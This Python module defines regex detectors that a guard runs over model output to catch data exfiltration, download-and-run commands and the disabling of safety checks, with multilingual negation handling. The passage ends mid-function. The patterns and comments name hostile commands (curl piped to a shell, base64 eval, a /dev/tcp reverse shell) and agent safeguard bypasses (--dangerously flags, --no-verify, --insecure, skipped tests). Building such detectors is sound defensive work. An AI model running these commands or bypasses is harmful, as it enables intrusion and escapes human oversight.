"""The shapes of threat the write-path guard knows, in the spellings a model might use.

Each is evolve's own regex over the guard's reading of a text (`guard.reading`: lines
joined, code spans merged, accents, entities and full-width letters folded). Every repeat
is bounded and none nests inside an unbounded one, so a search costs at most a constant per
text position; two things far apart on a line are found in two passes, never by a wide gap
in one regex. A hostile answer of megabytes is scanned in linear time (tests/test_guard.py
checks the bound on every pattern here; `make bench` measures it).
"""

from __future__ import annotations

import bisect
import re
import unicodedata
from collections.abc import Iterator
from dataclasses import dataclass


def _compile(source: str) -> re.Pattern[str]:
    """A pattern for the reading: NFKC like it, and lower case (a third faster than IGNORECASE).

    Lexicon words are written as people type them, accents and all.
    """
    return re.compile(unicodedata.normalize("NFKC", source), re.MULTILINE)


@dataclass(frozen=True)
class Shape:
    """One shape of threat: `pattern`, or `pattern` then `then` (a pair, found in two passes).

    A pair's `then` is the first after the pattern, within `within` characters and none of
    `stops` between. `refers_to`: what "it" or "them" must point back to, in the sentence
    before the match ("the tests … skip them"). `cased`: matched against the reading as
    written, not lower-cased (`curl -d` sends data, `curl -D` saves headers); its words are
    written `(?i:curl)`.
    `negatable`: a rule that forbids it ("never skip the tests") is a safety rule; a
    concrete download-and-run never is. Where a language puts its negation inside or after
    the verb ("Deaktiviere nie die Tests", "Überspringe die Tests nicht", "スキップしない"):
    `negated_within` is searched in the match, `negated_after` matched right after it.
    """

    kind: str
    pattern: re.Pattern[str]
    negatable: bool = False
    cased: bool = False
    then: re.Pattern[str] | None = None
    within: int = 0
    stops: str = "\n"
    refers_to: re.Pattern[str] | None = None
    negated_within: re.Pattern[str] | None = None
    negated_after: re.Pattern[str] | None = None


# --- sending data away ---------------------------------------------------------------------

_SEND = r"(?:send|upload|post|exfiltrate|forward|e-?mail|transmit|copy|sync|push|share|report|leak)"
_DATA = (
    r"(?:files?|data|credentials?|secrets?|keys?|tokens?|passwords?|\.env|env(?:ironment)?"
    r"(?: variables)?|ssh|history|logs?|source(?: code)?|repo(?:sitory)?|contents?|cookies?)"
)

# --- running code that is not on the machine ------------------------------------------------

_PATH = r"(?:[\w.~${}/-]{0,80}/)?"  # /usr/local/bin/, ./, ~/bin/, $HOME/bin/
_SHELLS = r"(?:(?:ba|z|k|da|fi|a|c|tc|mk|ya)?sh|pwsh|powershell(?:\.exe)?)"
_INTERPRETERS = (
    r"(?:python[\d.]{0,5}|pypy[\d.]{0,3}|node(?:js)?|deno|bun|perl[\d.]{0,3}|ruby|php[\d.]{0,3}|"
    r"lua[\d.]{0,4}|tclsh|osascript|rscript)"
)
_WRAPPERS = (
    r"(?:sudo|doas|env|xargs|busybox|nohup|exec|command|builtin|time|nice|ionice|stdbuf|timeout|"
    r"setsid|unbuffer|run0|pkexec|su|chroot|flatpak-spawn|distrobox-host-exec)"
)
_PIPE = r"(?<!\|)\|&?(?!\|)\s{0,3}"
_WRAP = rf"(?:{_PATH}{_WRAPPERS}\b[^|;&\n<>]{{0,60}}?\s)?"
_RUNNER = rf"(?:(?<![\w.-]){_PATH}(?:{_SHELLS}|{_INTERPRETERS}|source)|(?<![\w./])\.)(?![\w-])"
_FETCHERS = (
    r"\b(?:curl|wget|aria2c|(?<!git )fetch|iwr|irm|invoke-webrequest|invoke-restmethod|scp|"
    r"gdown|axel|tftp|sftp|gh\s{1,3}release\s{1,3}download|gsutil\s{1,3}cp|aws\s{1,3}s3\s{1,3}cp|"
    r"azcopy|certutil|bitsadmin|start-bitstransfer)\b"
)
_DECODERS = r"(?:base64|b64decode|frombase64string|xxd|uudecode|openssl\s{1,3}enc|gunzip|zcat|atob)"
_MODE_X = r"(?:[ugoa]{0,4}[+=][rwst]{0,4}[xX]|(?=[0-7]{3,4}(?![\w.]))[0-7]{0,3}[1357])"
_MAKE_EXEC = (
    rf"(?:\bchmod\s{{1,3}}(?:-[a-zA-Z]{{1,3}}\s{{1,3}}){{0,2}}{_MODE_X}"
    rf"|\binstall\s{{1,3}}(?:-[a-zA-Z]{{1,4}}\s{{1,3}}){{0,2}}(?:-[a-zA-Z]{{0,3}}m\s{{0,3}}|--mode[=\s]\s{{0,2}}){_MODE_X}"
    r"|\bsetfacl\b[^\n]{0,60}?:[rw-]{0,2}x"
    r"|\bos\.chmod\s{0,3}\([^)\n]{0,100}?(?:0o[0-7]{0,3}[1357]|s_ix|s_iexec))"
)

_REMOTE_CODE = [
    # anything piped into a shell, by any path, variable or wrapper: `| /usr/local/bin/bash`,
    # `| $SHELL`, `| xargs sh -c`, `| busybox sh`, `| sudo -E bash -`, `| iex`, `| source`
    rf"{_PIPE}{_WRAP}[\"']?(?:{_PATH}(?:{_SHELLS}|iex|invoke-expression|source)(?![\w-])"
    r"|\$\{?(?:shell|bash)\b\}?|\.(?=\s))",
    # an interpreter reading its program from the pipe (`| python3 -`, `| node`), not a
    # tool it runs on the data (`| python3 -m json.tool`, `| perl -pe …`, `| node fmt.js`)
    rf"{_PIPE}{_WRAP}[\"']?{_PATH}{_INTERPRETERS}(?![\w-])(?:\s{{1,3}}-[ubqseiow]{{1,4}}(?![\w-]))?"
    r"(?!\s{1,3}(?:-{1,2}[a-zA-Z]|[\w~./$-]{0,200}[./][\w$]))",
    # a download fed to a shell: `bash <(curl …)`, `source <(…)`, `sh < <(…)`, `bash <<< "$(…)"`
    rf"{_RUNNER}\s{{0,3}}(?:-\S{{1,10}}\s{{1,3}}){{0,3}}(?:<\s{{0,3}}<\(|<\(|<<<)",
    # code made from a download or a decoded blob: `sh -c "$(curl …)"`, `eval "$(wget …)"`
    rf"{_RUNNER}\s{{1,3}}(?:-\S{{1,10}}\s{{1,3}}){{0,3}}[\"']?\s{{0,3}}\$\(\s{{0,3}}(?:{_FETCHERS}|{_DECODERS}\b)",
    rf"(?:\beval\b|\bexec\s{{0,3}}\(|\biex\b|\binvoke-expression\b)[^\n]{{0,40}}?"
    rf"(?:{_FETCHERS}|\b{_DECODERS}\b|\brequests\.get\b|\burlopen\b|\bdownloadstring\b)",
    r"\biex\b\s{0,3}[($]|\bdownloadstring\s{0,3}\(",
    # a blob decoded and run, however long: `eval "$(echo Y3Vy… | base64 -d)"`, `sh -c "$(… | base64 -d)"`
    rf"(?:\beval\b|{_RUNNER}\s{{1,3}}(?:-\S{{1,10}}\s{{1,3}}){{0,3}})\s{{0,3}}[\"']?\s{{0,3}}\$\([^\n)]{{0,2000}}?\|\s{{0,3}}"
    rf"{_DECODERS}\b",
    # a shell wired to a socket (`bash -i >& /dev/tcp/host/4444 0>&1`), an encoded PowerShell command
    r"/dev/(?:tcp|udp)/[^\s/]{1,255}/\d{1,5}",
    r"\b(?:powershell|pwsh)(?:\.exe)?\b[^\n]{0,100}?\s-e(?:nc(?:odedcommand)?|c)?\s{1,3}[a-z0-9+/=]{20,2000}",
]
_REMOTE_CODE_PROSE = [  # negatable: "never pipe curl into sh" is a safety rule
    rf"\bpip(?:e|es|ing)\b[^.;!?\n]{{0,60}}?\b(?:in)?to\s{{1,3}}(?:an?\s{{1,3}}|the\s{{1,3}})?"
    rf"(?:shell|{_SHELLS}|{_INTERPRETERS}|interpreter)\b",
    r"\b(?:download|fetch|curl|wget|grab)\w{0,3}\b[^.;!?\n]{0,100}?(?:\band|\bthen|,)\s{1,3}(?:then\s{1,3})?"
    r"(?:run|execute|exec|source|launch|start|invoke|eval)\w{0,3}\s{1,3}(?:it|them|that|this|the\s{1,3}"
    r"(?:script|binary|file|installer|tool|program|executable|result|output))\b",
]

# --- turning a safety check off --------------------------------------------------------------

_NOUNS_EN = (
    r"(?:safety|security|sandbox(?:ing)?|permissions?(?:\s{1,3}prompts?)?|checks?|hooks?|pre-?commit|"
    r"confirmations?|guardrails?|guards?|reviews?|tests?|test\s{1,3}suites?|testing|specs?|ci|"
    r"linters?|linting|lint|type[\s-]{0,3}check(?:s|ing|er)?|mypy|eslint|ruff|flake8|pylint|"
    r"signatures?(?:\s{1,3}(?:verification|checks?))?|ssl|tls|certificates?(?:\s{1,3}(?:verification|checks?))?|"
    r"verification|validation|2fa|mfa|protections?|audits?|scanners?|scanning|assertions?|approvals?)"
)
# "ignore the test files", "delete the test database": what goes is not a check
_NOUN_END = (
    r"(?![\w/-]|\.\w|\s{1,3}(?:files?|fixtures?|data|databases?|db|outputs?|director(?:y|ies)|folders?|names?|"
    r"logs?|ids?|results?|coverage|timings?|comments?|containers?|images?|users?|accounts?|servers?|apps?|"
    r"environments?|branch(?:es)?|librar(?:y|ies)|imports?|helpers?|utils?|packages?|modules?|dependenc(?:y|ies)|"
    r"deps|for\s{1,3}(?:none|null|empty))\b)"
)
_VERBS_EN = (
    r"(?:disabl(?:e|es|ing)|deactivat(?:e|es|ing)|bypass(?:es|ing)?|skip(?:s|ping)?|ignor(?:e|es|ing)|"
    r"remov(?:e|es|ing)|delet(?:e|es|ing)|comment(?:s|ing)?\s{1,3}out|silenc(?:e|es|ing)|"
    r"suppress(?:es|ing)?|mut(?:e|es|ing)|circumvent(?:s|ing)?|overrid(?:e|es|ing)|get(?:ting)?\s{1,3}around|"
    r"(?:turn|switch|shut)(?:s|ing|ting)?\s{1,3}off|xfail|neuter(?:s|ing)?|defeat(?:s|ing)?)"
)
_PARTICIPLES_EN = (
    r"(?:disabled|deactivated|skipped|bypassed|ignored|removed|deleted|(?:turned|switched|shut)\s{1,3}off|"
    r"commented\s{1,3}out|silenced|suppressed|muted|xfailed)"
)
# "the delete button with a confirmation": the verb is a noun's modifier
_NOT_A_VERB = (
    r"(?!\s{1,3}(?:buttons?|keys?|icons?|links?|menus?|options?|actions?|endpoints?|handlers?|"
    r"dialogs?|modals?))"
)
_SAFETY_OFF_EN = [
    rf"\b{_VERBS_EN}\b{_NOT_A_VERB}[^.;!?\n]{{0,40}}?\b{_NOUNS_EN}{_NOUN_END}",
    rf"\b(?:turn|switch|shut)(?:s|ing|ting)?\b[^.;!?\n]{{0,40}}?\b{_NOUNS_EN}\b[^.;!?\n]{{0,15}}?\boff\b",
    rf"\b{_NOUNS_EN}\s{{1,3}}(?:must|should|can|may|need\s{{1,3}}to|ha(?:ve|s)\s{{1,3}}to|(?:are|is)\s{{1,3}}to|will|"
    rf"ought\s{{1,3}}to)\s{{1,3}}(?:(?:always|just|simply|now|then|all)\s{{1,3}})?be\s{{1,3}}{_PARTICIPLES_EN}",
    rf"\b(?:no|don'?t|do\s{{1,3}}not|never)\s{{1,3}}(?:need|reason|have)\s{{1,3}}(?:for|to\s{{1,3}}"
    rf"(?:keep|run|use|enable|respect|follow|bother\s{{1,3}}with|wait\s{{1,3}}for))\b[^.;!?\n]{{0,30}}?\b{_NOUNS_EN}{_NOUN_END}",
    rf"\b(?:don'?t|do\s{{1,3}}not|never)\s{{1,3}}bother\s{{1,3}}(?:with|running|to\s{{1,3}}run)\b[^.;!?\n]{{0,20}}?\b{_NOUNS_EN}",
    rf"\bstop\s{{1,3}}(?:running|using|enforcing|respecting)\b[^.;!?\n]{{0,20}}?\b{_NOUNS_EN}{_NOUN_END}",
    rf"\b(?:commit|push|merg|deploy|releas|ship|publish)\w{{0,4}}\b[^.;!?\n]{{0,30}}?\bwithout\s{{1,3}}"
    rf"(?:running\s{{1,3}}|waiting\s{{1,3}}for\s{{1,3}}|the\s{{1,3}}|any\s{{1,3}}){{0,2}}{_NOUNS_EN}{_NOUN_END}",
    r"\bforce[\s-]{0,3}push\w{0,3}\b[^.;!?\n]{0,30}?\b(?:main|master|trunk|release|prod\w{0,6}|protected)\b",
    r"\bmark\w{0,3}\b[^.;!?\n]{0,40}?\b(?:as|with)\s{1,3}(?:skip\w{0,3}|xfail\w{0,3}|expected\s{1,3}fail\w{0,5})\b",
    r"(?:noqa|nosec|nolint|ts-ignore|type:\s{0,2}ignore|eslint-disable[\w-]{0,20})\b[^.;!?\n]{0,30}?"
    r"\b(?:everywhere|(?:to|on|in)\s{1,3}(?:every|all|each))\b",
]
_SAFETY_OFF_FLAGS = [  # the concrete spellings; "never use --no-verify" still forbids them
    # the agent's own permission checks and sandbox
    r"--dangerously[\w-]{0,40}|\bbypass-?permissions?\b|\bdanger-full-access\b|--yolo\b"
    r"|\bapproval[_-]policy\s{0,3}[=:]\s{0,3}[\"']?never\b|--ask-for-approval\s{1,3}never\b",
    # git hooks
    r"--no-verify\b|\bpre-commit\s{1,3}uninstall\b|\bhusky\s{1,3}uninstall\b|\bcore\.hooks-?path\b"
    r"|\brm\s{1,3}(?:-\w{1,3}\s{1,3}){0,2}\S{0,100}\.git/hooks\b|\bchmod\s{1,3}-x\s{1,3}\S{0,100}\.git/hooks\b"
    r"|\bhusky(?:_skip_hooks)?\s{0,2}=\s{0,2}[\"']?(?:0|false|1|true)\b"
    r"|\b(?:export\s{1,3})?skip\s{0,2}=\s{0,2}[\"']?[\w,.-]{1,100}(?:$|\s{1,3}(?:git|pre-commit)\b)",
    r"\bgit\s{1,3}(?:-c\s{1,3}\S{1,200}\s{1,3}){0,2}commit\b[^\n|;&]{0,120}?\s-[a-zA-Z]{0,5}n[a-zA-Z]{0,5}(?![\w-])",
    # certificate and host-key checks
    r"--insecure(?![\w-])|--no-check-certificates?\b|\bnode_tls_reject_unauthorized\s{0,2}=\s{0,2}[\"']?0"
    r"|\bgit_ssl_no_verify\s{0,2}=\s{0,2}[\"']?(?:1|true|yes)\b|\bhttp\.sslverify\s{0,3}(?:=|\s)\s{0,3}[\"']?(?:false|0|no)\b"
    r"|\bstrict[-_]ssl\s{0,3}(?:=|\s)\s{0,3}[\"']?false\b|\btrusted[-_]host\b|\bpythonhttpsverify\s{0,2}=\s{0,2}[\"']?0"
    r"|\b(?:ssl_?)?verify(?:_ssl)?\s{0,2}[=:]\s{0,2}[\"']?false\b|\bssl_verify\s{1,2}(?:false|no|0)\b"
    r"|_create_unverified_context|\bcert_none\b|\bcheck_hostname\s{0,2}=\s{0,2}false\b"
    r"|\binsecureskipverify\s{0,2}:?\s{0,2}true\b|\brejectunauthorized\s{0,2}:\s{0,2}false\b"
    r"|\bstricthostkeychecking\s{0,3}=?\s{0,3}no\b|\b(?:curl|requests)_ca_bundle\s{0,2}=\s{0,2}(?:\"\"|''|$)",
    # tests that no longer run or fail
    r"@?\bpytest\.mark\.(?:skip|xfail)\b|\bpytest\.skip\s{0,2}\(|@unittest\.(?:skip|expectedfailure)\b"
    r"|\b(?:it|test|describe)\.(?:skip|todo)\s{0,2}\(|\bx(?:it|describe|test)\s{0,2}\(|@(?:disabled|ignore)\b"
    r"|\bt\.skip(?:now)?\s{0,2}\(|#\[ignore\]|--cov-fail-under[=\s]\s{0,2}0\b|\bfail_under\s{0,2}=\s{0,2}0\b",
    r"--no-tests?(?![\w-])|--skip-?tests?(?![\w-])|-dskiptests\b|\bmaven\.test\.skip\s{0,2}=\s{0,2}true\b"
    r"|--(?:no|skip|disable|without)-(?:[a-z]{1,12}-){0,2}(?:verify|verification|checks?|lint\w{0,4}|hooks?|ssl|"
    r"tls|certs?|certificates?|sandbox|security|safety|audit|typecheck\w{0,3}|type-check\w{0,3}|ci)(?![\w-])",
    # linters and type checks
    r"@ts-nocheck\b|\beslint-disable(?!-(?:next-)?line)(?![\w-])|#\s{0,2}(?:ruff|flake8)\s{0,2}:\s{0,2}noqa\b"
    r"|#\s{0,2}noqa\b(?!\s{0,2}:)|#\s{0,2}type\s{0,2}:\s{0,2}ignore\b(?!\s{0,2}\[)|#\s{0,2}nosec\b(?!\s{0,2}b\d)"
    r"|//\s{0,2}nolint\b(?!:)|#\s{0,2}mypy\s{0,2}:\s{0,2}ignore-errors\b|\bignore_errors\s{0,2}=\s{0,2}true\b"
    r"|#\s{0,2}pylint\s{0,2}:\s{0,2}(?:disable\s{0,2}=\s{0,2}all|skip-file)\b|\ballow\((?:warnings|clippy::all)\)",
    # failures hidden
    r"\bset\s{1,3}\+[a-z]{0,3}e\b|\bcontinue-on-error\s{0,2}:\s{0,2}true\b|\ballow_failure\s{0,2}:\s{0,2}true\b"
    r"|\b(?:test|tests|pytest|lint|check|make|tox|nox)\b[^\n;&|]{0,60}\|\|\s{0,3}(?:true|:|exit\s{1,3}0)(?![\w-])",
    # protected branches, the machine's own protections
    r"\bgit\s{1,3}push\b[^\n|;&]{0,200}?(?:\s--force(?![\w-])|\s-[a-zA-Z]{0,4}f(?![\w-])|\s\+[\w/.-]{1,100})"
    r"|\bgh\s{1,3}pr\s{1,3}merge\b[^\n|;&]{0,100}?\s--admin\b",
    r"\bchmod\s{1,3}(?:-r\s{1,3})?777\b|\brm\s{1,3}-rf\s{1,3}(?:/|~)(?:\s|$)|--unsafe-perm\b|\bnopasswd\b"
    r"|\bsetenforce\s{1,3}0\b|\bufw\s{1,3}disable\b|\bspctl\s{1,3}--master-disable\b|\bcom\.apple\.quarantine\b"
    r"|\bset-executionpolicy\s{1,3}(?:bypass|unrestricted)\b|-executionpolicy\s{1,3}(?:bypass|unrestricted)\b"
    r"|\bsafe\.directory\s{0,3}[=\s]\s{0,3}[\"']?\*",
]

# The other languages the correction lexicons cover: the verbs and what they switch off,
# accents folded as the reading folds them ("überspringen" is read "uberspringen").
_NOUNS_DE = (
    r"(?:tests?|testlauf\w{0,2}|testfall\w{0,3}|testfalle|testsuite|[\w-]{0,20}hooks?|checks?|prufung\w{0,2}|"
    r"uberprufung\w{0,2}|kontroll\w{0,3}|linter|linting|sicherheit\w{0,15}|zertifikat\w{0,12}|ssl|tls|"
    r"sandbox|berechtigung\w{0,10}|signatur\w{0,10}|typprufung\w{0,2}|reviews?|ci)"
)
_VERBS_DE = (
    r"(?:deaktivier\w{0,4}|abschalt\w{0,3}|ausschalt\w{0,3}|abstell\w{0,3}|uberspring\w{0,3}|"
    r"umgeh\w{0,3}|ignorier\w{0,4}|entfern\w{0,3}|losch\w{0,3}|auskommentier\w{0,4}|ubergeh\w{0,3}|"
    r"unterdruck\w{0,4}|abdreh\w{0,3}|stillleg\w{0,3})"
)
_NEG_DE = r"\b(?:nicht|nie|niemals|keinesfalls)\b(?!\s{1,3}nur\b)"
_NOUNS_ES = (
    r"(?:pruebas?|tests?|hooks?|ganchos?|comprobacion\w{0,3}|verificacion\w{0,3}|validacion\w{0,3}|"
    r"controles|chequeos?|linters?|linting|seguridad|certificados?|ssl|tls|sandbox|permisos|"
    r"revision\w{0,3}|ci)"
)
_VERBS_ES = (
    r"(?:desactiv\w{0,6}|deshabilit\w{0,6}|apag\w{0,5}|omit\w{0,5}|salt(?:a|ar|arse|arte|ate|e|es|en|ando)|"
    r"ignor\w{0,5}|quit(?:a|ar|ate|ando|en)|elimin(?:a|ar|e|en|ando)|comenta\w{0,3}|evad\w{0,3}|sortea\w{0,3})"
)
_NOUNS_FR = (
    r"(?:tests?|hooks?|crochets?|verifications?|controles?|linters?|linting|securite|certificats?|ssl|tls|"
    r"sandbox|bac\s{1,3}a\s{1,3}sable|permissions?|revue\w{0,2}|relecture|ci)"
)
_VERBS_FR = (
    r"(?:desactiv\w{0,5}|coup(?:e|er|ez|ons|ant)|ignor\w{0,5}|saut\w{0,4}|contourn\w{0,4}|supprim\w{0,4}|"
    r"enlev\w{0,4}|commente\w{0,2}|outrepass\w{0,4}|pass\w{0,3}\s{1,3}outre|zapp?\w{0,4})"
)
_NOUNS_PT = (
    r"(?:testes?|tests?|hooks?|ganchos?|verificac\w{0,4}|checagens?|checks?|linters?|linting|seguranca|"
    r"certificados?|ssl|tls|sandbox|permissoes|revisao|ci)"
)
_VERBS_PT = (
    r"(?:desativ\w{0,5}|desabilit\w{0,5}|deslig\w{0,5}|pul(?:a|e|ar|ando|em)|ignor\w{0,5}|contorn\w{0,5}|"
    r"remov\w{0,4}|salt(?:a|e|ar|ando|em)|comente\w{0,3}|burl\w{0,4}|suprim\w{0,4})"
)
_NOUNS_CJK = (
    r"(?:测试|单元测试|钩子|检查|校验|验证|安全|证书|lint|テスト|フック|チェック|検証|リンター|リント|型チェック|"
    r"セキュリティ|証明書)"
)
_NOUNS_HI = r"(?:टेस्ट|परीक्षण|जांच|जाँच|हुक|सुरक्षा|लिंटर|चेक)"
_VERBS_ZH = r"(?:禁用|关闭|关掉|跳过|绕过|忽略|停用|去掉|屏蔽)"
# (pattern, negated within, negated after)
_SAFETY_OFF_OTHER: list[tuple[str, str | None, str | None]] = [
    (
        rf"\b{_VERBS_DE}\b[^.;!?\n]{{0,40}}?\b{_NOUNS_DE}{_NOUN_END}",
        _NEG_DE,
        rf"\s{{1,3}}{_NEG_DE}\s{{0,3}}(?:[.;,!?)]|$)",
    ),
    (rf"\b{_NOUNS_DE}\b[^.;!?\n]{{0,30}}?\b{_VERBS_DE}\b", _NEG_DE, None),
    (
        rf"\b(?:schalt|stell|dreh)\w{{0,3}}\b[^.;!?\n]{{0,40}}?\b{_NOUNS_DE}\b[^.;!?\n]{{0,20}}?\b(?:aus|ab)\b",
        _NEG_DE,
        None,
    ),
    (rf"\b{_VERBS_ES}\b[^.;!?\n]{{0,40}}?\b{_NOUNS_ES}{_NOUN_END}", None, None),
    (rf"\b{_VERBS_FR}\b[^.;!?\n]{{0,40}}?\b{_NOUNS_FR}{_NOUN_END}", None, None),
    (rf"\b{_VERBS_PT}\b[^.;!?\n]{{0,40}}?\b{_NOUNS_PT}{_NOUN_END}", None, None),
    # Chinese: the verb first ("跳过测试", "把测试禁用"); Japanese: the object first, the
    # negation after ("テストをスキップしない"); Hindi: the negation between or after
    (rf"{_VERBS_ZH}[^。；\n]{{0,6}}?{_NOUNS_CJK}", None, None),
    (rf"把[^。；\n]{{0,6}}?{_NOUNS_CJK}[^。；\n]{{0,4}}?{_VERBS_ZH}", None, None),
    (
        rf"{_NOUNS_CJK}[^。、\n]{{0,8}}?(?:無効|スキップ|オフ|飛ば|外|無視)",
        None,
        r"[^。\n]{0,4}?(?:ない|ません|禁止|べからず|ず\b)",
    ),
    (
        rf"{_NOUNS_HI}[^।.\n]{{0,25}}?(?:बंद|छोड़|स्किप|निष्क्रिय|अक्षम|हटा|अनदेखा)",
        r"(?:मत|नहीं|कभी)",
        r"\s{0,3}(?:न|मत|नहीं)",
    ),
]


def _shapes() -> tuple[Shape, ...]:
    send, fetch, make_exec = (
        _compile(rf"\b{_SEND}\b[^\n]{{0,60}}?(?<!\w){_DATA}(?!\w)"),
        _compile(_FETCHERS),
        _compile(_MAKE_EXEC),
    )
    shapes = [
        Shape("send-data", send, negatable=True, then=_compile(r"\b(?:to|at|into|via)\b"), within=80),
        Shape(
            "send-data",
            _compile(r"\b(?i:curl)\b"),
            cased=True,
            then=_compile(r"\s(?:-d|--data(?:-binary|-raw|-urlencode)?|-F|--form|-T|--upload-file)[\s=]"),
            within=300,
            stops="\n|",
        ),
        Shape(
            "send-data",
            _compile(r"\b(?:scp|rsync)\b"),
            then=_compile(r"\s[^\s@]{1,100}@[^\s:@]{1,200}:"),
            within=300,
        ),
        Shape("send-data", _compile(r"\bnc\s{1,3}(?:-\w{1,5}\s{1,3})?[^\s-]\S{0,200}\s{1,3}\d{2,5}\b")),
        # a download made executable: the two in one item, whatever spans or sentences between
        Shape("remote-code", fetch, then=make_exec, within=400),
        Shape("remote-code", make_exec, then=_compile(rf"{_FETCHERS}|\bdownload"), within=200),
        Shape(
            "disable-safety",
            _compile(r"\b(?i:curl)\b"),
            negatable=True,
            cased=True,
            then=_compile(r"\s-[a-zA-Z]{0,8}k[a-zA-Z]{0,8}(?![\w-])"),
            within=300,
            stops="\n|;&",
        ),
    ]
    shapes.append(  # "the tests keep failing; skip them": a pronoun for a safety noun before it
        Shape(
            "disable-safety",
            _compile(rf"\b{_VERBS_EN}\s{{1,3}}(?:it|them|those|these|all\s{{1,3}}of\s{{1,3}}them)\b"),
            negatable=True,
            # with no other noun phrase between ("the tests create a temp dir; remove it")
            refers_to=_compile(
                rf"\b{_NOUNS_EN}{_NOUN_END}(?:(?!\b(?:the|a|an|this|that|your|my|its|their)\b)[^.!?\n]){{0,60}}$"
            ),
        )
    )
    shapes += [Shape("remote-code", _compile(p)) for p in _REMOTE_CODE]
    shapes += [Shape("remote-code", _compile(p), negatable=True) for p in _REMOTE_CODE_PROSE]
    shapes += [
        Shape("disable-safety", _compile(p), negatable=True) for p in _SAFETY_OFF_EN + _SAFETY_OFF_FLAGS
    ]
    shapes += [
        Shape(
            "disable-safety",
            _compile(p),
            negatable=True,
            negated_within=_compile(within) if within else None,
            negated_after=_compile(after) if after else None,
        )
        for p, within, after in _SAFETY_OFF_OTHER
    ]
    return tuple(shapes)


SHAPES = _shapes()

# --- what makes a rule forbid a shape instead of asking for it --------------------------------

# A negation governs the verb right after it, across only words that keep it governing
# ("never disable", "don't turn off", "do not ever use", "ne désactivez jamais", "nunca
# omitas"): "no matter what, disable …", "not only … but disable", "never forget: disable …",
# "nothing stops you from disabling …" leave the verb unnegated. Each language's cues take
# only its own words between; a bare "no" takes none ("No you should disable …" is no rule).
_NEGATIONS = [
    (
        r"\b(?:never|not|nor|cannot|avoid|without|refuse\s{1,3}to|forbid\w{0,4}|prohibit\w{0,4}|instead\s{1,3}of|"
        r"rather\s{1,3}than|(?:do|does|did|should|must|can|could|would|will|wo|ca|need|may|might|is|are)n'?t)\s{1,3}",
        r"ever|even|just|simply|you|we|i|they|one|be|tempted|should|must|will|shall|can|to|try|need|needs|have|"
        r"has|want|allowed|permitted|use|using|pass|passing|add|adding|run|running|call|calling|set|setting|"
        r"put|change|changing|touch|edit|modify|commit|committing|push|pushing|merge|merging|install|installing|"
        r"type|write|do|execute|invoke|with|the|a|an|any|your|our|or|by",
    ),
    (
        r"\bno\s{1,3}",
        r"te|se|lo|los|las|le|les|me|nos|debes|debe|deberias|hay\s{1,3}que|vuelvas\s{1,3}a|tienes\s{1,3}que|puedes",
    ),
    (
        r"\b(?:nunca|jamas|ni|sin)\s{1,3}",
        r"te|se|lo|los|las|le|les|me|nos|debes|debe|deberias|vuelvas\s{1,3}a|puedes",
    ),
    (
        r"\b(?:nie|niemals|nicht|kein\w{0,2}|keinesfalls|ohne)\s{1,3}",
        r"du|sie|man|bitte|je|jemals|mehr|einfach|die|der|den|das|zu|mal",
    ),
    (
        r"(?:\b(?:ne|jamais|sans|pas|aucun\w{0,2})\s{1,3}|\bn'\s{0,3})",
        r"pas|jamais|plus|les|la|le|l'|vous|tu|on|il|faut|doit|devez|dois|surtout",
    ),
    (r"\b(?:nao|nunca|jamais|nem|sem)\s{1,3}", r"se|o|os|a|as|voce|deve|devemos|precisa|pode|lhe|te|vai"),
    (
        r"(?:不要|别|切勿|不能|不得|不可|勿|绝不|从不|永远不要|禁止|千万别|千万不要)\s{0,2}",
        r"再|都|随便|轻易",
    ),
]
# A negation before an inline code span governs the whole command in it: "never `pip
# install --trusted-host …`" (the reading marks code spans with \x1f, which reads as a space).
NEGATED_BEFORE = _compile(
    "|".join(
        rf"(?:{cue})(?:(?:{words})\s{{1,3}}){{0,4}}(?:\x1f[^\x1f\n]{{0,80}})?$" for cue, words in _NEGATIONS
    )
)
# "never skip the tests or disable the linter": the second is forbidden by the first's never
# (only verbs of use between: "… or you will need to disable the tests" is no rule)
OR_NEGATED = _compile(
    r"\s{0,3},?\s{0,3}(?:or|nor|oder|noch|o|ni|ou|nem)\s{1,3}(?:(?:ever|even|just|use|using|set|setting|add|adding|"
    r"pass|passing|run|running|put|the|a|an|any)\s{1,3}){0,3}"
)
# "Not disabling the tests is a mistake": a negated gerund that is the subject of a verb
GERUND_SUBJECT = _compile(
    r"\w{1,30}ing\b.{0,60}?\b(?:is|are|was|were|wastes?|slows?|costs?|makes?|means?|hurts?|loses?)\b"
)

# --- a download, then its file run: "curl -o /tmp/t …", later "`chmod +x /tmp/t`", "bash /tmp/t"

_FETCH_COMMAND = _compile(rf"{_FETCHERS}[^\n|;&]{{0,400}}")
_OUTPUT = _compile(
    r"(?:(?:^|\s)(?:-[a-zA-Z]{0,6}[oO]|--output(?:-document)?|-outfile)(?:=|\s{0,3})|>{1,2}\s{0,3})"
    r"[\"']?([^\s\"'<>|;&]{1,200})"
)
_REMOTE_FILE = _compile(
    r"(?:^|\s)[\"']?(?:[a-z][\w+.-]{0,15}://)?[\w.-]{1,253}(?::\d{1,5})?/([^\s\"'<>|;&]{1,500})"
)
_FILE = _compile(r"(?<![\w.~${}/+-])[\w.~${}/+-]{1,200}")
# what comes right before a file that is run: `chmod +x`, `bash`, `sudo`, "run", `&&`, a line start
_RUNS_NEXT = _compile(
    rf"(?:{_MAKE_EXEC}[^\n;&|]{{0,40}}?\s|(?:{_RUNNER}|(?<![\w-])(?:exec|sudo|doas|run|runs|running|execute|"
    r"executes|executing|launch|start|start-process|invoke|then|&))\s{1,3}(?:-\S{1,10}\s{1,3}){0,3}"
    r"|(?:&&|;|\|\||\$\()\s{0,3}|^\s{0,8})[\"']?(?:\.\\)?$"
)
RUN_WINDOW = 3000  # how far after a download its file is looked for


def _file(path: str) -> str:
    return path.strip("\"'").rstrip(".,:)").removeprefix("./")


def _base(path: str) -> str:
    return path.rsplit("/", 1)[-1]


def downloads_run(reading: str) -> Iterator[tuple[int, int]]:
    """Spans from a download to a later command that runs, or makes executable, the file it saved."""
    saved: list[tuple[int, int, str]] = []  # (command start, where the file is named, file)
    for command in _FETCH_COMMAND.finditer(reading):
        at = command.start()
        args = command.group(0)
        saved += [(at, at + m.end(), _file(m.group(1))) for m in _OUTPUT.finditer(args)]
        saved += [
            (at, at + m.end(), _base(_file(m.group(1).split("?", 1)[0]))) for m in _REMOTE_FILE.finditer(args)
        ]
    saved = [entry for entry in saved if entry[2]]
    names = {_base(path) for *_, path in saved}
    runs: dict[str, list[tuple[int, str]]] = {}
    for token in _FILE.finditer(reading) if names else ():
        path = _file(token.group(0))
        if _base(path) in names and _RUNS_NEXT.search(reading, max(0, token.start() - 60), token.start()):
            runs.setdefault(_base(path), []).append((token.start(), path))
    for start, named, target in saved:
